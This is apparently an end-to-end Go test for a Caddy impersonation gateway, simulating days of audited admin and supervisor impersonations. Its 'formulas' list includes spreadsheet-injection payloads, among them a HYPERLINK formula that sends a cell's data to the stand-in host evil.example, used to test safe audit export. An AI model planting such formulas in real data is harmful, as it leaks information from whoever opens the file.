package e2e

import (
	"cmp"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/seed-240d5494/caddy-impersonate/test/chtest"
)

const auditedCaddyfile = deskCaddyfile + `		policy field {
			actor    group admins supervisors
			target   group fieldworkers
			mode     full read_only
			duration 4h
			require  reason
		}
		policy office {
			actor     group admins
			target    group office
			duration  15m
			require   reason ticket approval
			approvers group account-owners
		}
		audit {
			journal %[1]s/journal
			%[4]s
		}
	}
}
http://%[5]s {
	impersonate {
		identity Remote-User {impersonate.user.username}
		identity Remote-Name {impersonate.user.name}
		action "Submitted a timesheet" POST /timesheets/*/submit
		deny   /account/password*
	}
	reverse_proxy %[6]s
}
`

// crew are more field workers: enough for many accounts in a day.
var crew = []role{
	{"lara", "Lara Abel", "south", []string{"fieldworkers"}},
	{"milan", "Milan Costa", "south", []string{"fieldworkers"}},
	{"noor", "Noor Haas", "south", []string{"fieldworkers"}},
	{"petra", "Petra Lind", "south", []string{"fieldworkers"}},
	{"theo", "Theo Park", "south", []string{"fieldworkers"}},
	{"wanda", "Wanda Ueda", "south", []string{"fieldworkers"}},
}

// made is an impersonation as it was made.
type made struct {
	actor, target, reason, day string
	requests, writes, refusals int
}

// audited are four days of impersonations, made through the gateway with its clock put forward: a hundred short ones of
// a supervisor on Wednesday, and each kind of what is worth a look.
type audited struct {
	*stage
	made                                    map[string]*made // by id
	approved, long, late, formula, live, no string           // ids of those that are looked at one by one
	many                                    string           // the day of many accounts
}

// formulas are reasons that a spreadsheet would compute.
var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"details")`, "+49 30 901820", "-2+3", "@SUM(A1:A9)", " =1+1", "＝1+1", "She said \"no\", then; hung up"}

const short = 104 // impersonations of the supervisor's

// newAudited makes them. Where ch is nil the audit is SQLite.
func newAudited(t *testing.T, ch *chtest.Server) *audited {
	t.Helper()
	a := &audited{made: map[string]*made{}}
	begin := time.Now().UTC().AddDate(0, 0, 1).Truncate(24 * time.Hour).Add(8 * time.Hour)
	for begin.Weekday() != time.Wednesday {
		begin = begin.AddDate(0, 0, 1)
	}
	a.stage = raise(t, slices.Concat(company, crew), 0, func(p *parts) {
		p.Begin = begin
		sink := "sqlite " + filepath.Join(p.Dir, "audit.db")
		if ch != nil {
			run(t, "impersonate", "schema", "apply", "--dsn", ch.DSN)
			sink = "clickhouse " + ch.DSN
		}
		p.Config = fmt.Sprintf(auditedCaddyfile, p.Dir, p.Issuer, clientSecret, sink, p.Addr, p.App)
	})

	// Wednesday.
	super, workers := logIn(t, a.origin(), "supervisor"), []string{"sam", "jose", "yuki", "amira", "dmitri", "lara", "milan"}
	for i := range short {
		reason := fmt.Sprintf("Round %d of the morning", i+1)
		if i < len(formulas) {
			reason = formulas[i]
		}
		id := a.start(super, workers[i%len(workers)], map[string]any{"reason": reason})
		a.get(super, id, "/")
		super.back()
		if reason == formulas[0] {
			a.formula = id
		}
		if i%26 == 25 {
			a.pass(20 * time.Minute)
		}
	}
	a.until(14, 0)
	admin, owner := logIn(t, a.origin(), "admin"), logIn(t, a.origin(), "owner")
	asked := a.ask(admin, http.StatusAccepted, map[string]any{"target": "lena", "reason": "Lena's plan for Monday has a gap", "ticket": "HD-2244"})
	a.pass(2 * time.Minute)
	if res, body := owner.do(http.MethodPost, "/.impersonate/requests/"+asked+"/approve", "note=Until+noon+please", formBody); res.StatusCode >= 400 {
		t.Fatalf("approving: %d %s", res.StatusCode, body)
	}
	a.approved = a.ask(admin, http.StatusCreated, map[string]any{"request": asked})
	a.made[a.approved] = &made{actor: "admin", target: "lena", reason: "Lena's plan for Monday has a gap", day: a.today()}
	a.get(admin, a.approved, "/")
	admin.back()

	a.until(15, 0)
	a.no = a.start(admin, "sam", map[string]any{"reason": "Sam called: booking 1042 won't complete"})
	a.get(admin, a.no, "/bookings/1042")
	a.submit(admin, a.no)
	for range 6 {
		a.get(admin, a.no, "/account/password")
	}
	admin.back()
	sam := logIn(t, a.origin(), "sam")
	for range 6 {
		a.ask(sam, http.StatusForbidden, map[string]any{"target": "jose", "reason": "José asked me to"})
	}

	// Thursday.
	a.until(34, 0)
	second := logIn(t, a.origin(), "second")
	a.many = a.today()
	for _, who := range []string{"sam", "jose", "yuki", "amira", "dmitri", "lara", "milan", "noor", "petra", "theo", "wanda"} {
		id := a.start(second, who, map[string]any{"reason": "A look at everybody's tours"})
		a.get(second, id, "/")
		second.back()
	}
	a.until(37, 0)
	admin = logIn(t, a.origin(), "admin")
	a.long = a.start(admin, "jose", map[string]any{"reason": "José's tour ends at the wrong depot", "mode": "read_only"})
	for range 3 {
		a.get(admin, a.long, "/")
		a.pass(50 * time.Minute)
	}
	admin.back()
	a.until(46, 30)
	admin = logIn(t, a.origin(), "admin")
	a.late = a.start(admin, "yuki", map[string]any{"reason": "佐藤さんの予定を確認"})
	a.get(admin, a.late, "/")
	admin.back()

	// Friday.
	a.until(57, 0)
	a.live = a.start(logIn(t, a.origin(), "second"), "amira", map[string]any{"reason": "Amira's phone shows no tour"})
	a.pass(time.Minute)
	a.arrived(t)
	return a
}

// until puts the clock to so many hours and minutes after Wednesday 0 o'clock.
func (a *audited) until(hours, minutes int) {
	a.t.Helper()
	at := a.Begin.Truncate(24 * time.Hour).Add(time.Duration(hours)*time.Hour + time.Duration(minutes)*time.Minute)
	d := at.Sub(running.manual.Now())
	if d < 0 {
		a.t.Fatalf("it is %v later than %v already", -d, at)
	}
	a.pass(d)
}

// pass puts the clock forward, and waits until the gateway is ready: by that clock, what was under way has taken long.
func (a *audited) pass(d time.Duration) {
	a.t.Helper()
	a.gate.advance(d)
	client := insecureClient()
	waitFor(a.t, 3*time.Minute, "the gateway is ready again", func() bool {
		res, err := client.Get(a.origin() + "/.impersonate/readyz") //nolint:noctx // polled
		if err != nil {
			return false
		}
		res.Body.Close()
		return res.StatusCode == http.StatusOK
	})
}

func (a *audited) today() string { return running.manual.Now().UTC().Format(time.DateOnly) }

// ask starts something, or tries to, and returns its id.
func (a *audited) ask(p *person, want int, body map[string]any) string {
	a.t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		a.t.Fatal(err)
	}
	res, answer := p.do(http.MethodPost, "/.impersonate/api/v1/impersonations", string(b))
	var got struct{ ID string }
	if err := json.Unmarshal([]byte(answer), &got); err != nil || res.StatusCode != want {
		a.t.Fatalf("%s answered %d: %s", b, res.StatusCode, answer)
	}
	return got.ID
}

func (a *audited) start(p *person, target string, body map[string]any) string {
	a.t.Helper()
	body["target"] = target
	id := a.ask(p, http.StatusCreated, body)
	_, me := p.do(http.MethodGet, "/.impersonate/api/v1/me", "")
	var who struct{ Actor struct{ Username string } }
	if err := json.Unmarshal([]byte(me), &who); err != nil || who.Actor.Username == "" {
		a.t.Fatalf("who am I: %v, %s", err, me)
	}
	a.made[id] = &made{actor: who.Actor.Username, target: target, reason: body["reason"].(string), day: a.today()}
	return id
}

// get loads a page in an impersonation.
func (a *audited) get(p *person, id, path string) string {
	a.t.Helper()
	m := a.made[id]
	m.requests++
	res, body := p.do(http.MethodGet, path, "", navigation)
	switch {
	case strings.HasPrefix(path, "/account/password"):
		m.refusals++
		if res.StatusCode != http.StatusForbidden {
			a.t.Fatalf("%s as %s: %d", path, m.target, res.StatusCode)
		}
	case res.StatusCode != http.StatusOK:
		a.t.Fatalf("%s as %s: %d %s", path, m.target, res.StatusCode, body)
	}
	return body
}

var submitForm = regexp.MustCompile(`action="(/timesheets/[^"]+/submit)"`)

// submit is a write: a timesheet of the app's.
func (a *audited) submit(p *person, id string) {
	a.t.Helper()
	page := a.get(p, id, "/timesheets")
	action, token := submitForm.FindStringSubmatch(page), csrfField.FindStringSubmatch(page)
	if action == nil || token == nil {
		a.t.Fatal("the timesheet has no form")
	}
	a.made[id].requests++
	a.made[id].writes++
	res, body := p.do(http.MethodPost, action[1], url.Values{"csrf": {token[1]}}.Encode(), formBody, func(r *http.Request) {
		r.Header.Set("Cookie", p.cookie+"; fieldbook_csrf="+token[1])
	})
	if res.StatusCode != http.StatusSeeOther {
		a.t.Fatalf("submitting the timesheet: %d %s", res.StatusCode, body)
	}
}

// arrived waits until an owner can read all of it.
func (a *audited) arrived(t *testing.T) {
	t.Helper()
	owner := logIn(t, a.origin(), "owner")
	waitFor(t, 3*time.Minute, "the audit has all impersonations and their ends", func() bool {
		count := func(query string) (n int) {
			for cursor := "&"; cursor != ""; {
				_, body := owner.do(http.MethodGet, "/.impersonate/api/v1/audit/impersonations?limit=100"+query+strings.TrimRight(cursor, "&"), "")
				var got struct {
					Impersonations []json.RawMessage
					Next           string `json:"next_cursor"`
				}
				if err := json.Unmarshal([]byte(body), &got); err != nil {
					t.Fatalf("%v: %s", err, body)
				}
				n += len(got.Impersonations)
				if cursor = ""; got.Next != "" {
					cursor = "&cursor=" + got.Next
				}
			}
			return n
		}
		return count("") == len(a.made) && count("&outcome=active") == 1
	})
}

// of are the ids of those that fit, sorted.
func (a *audited) of(fit func(*made) bool) []string {
	var ids []string
	for id, m := range a.made {
		if fit(m) {
			ids = append(ids, id)
		}
	}
	slices.SortFunc(ids, cmp.Compare[string])
	return ids
}
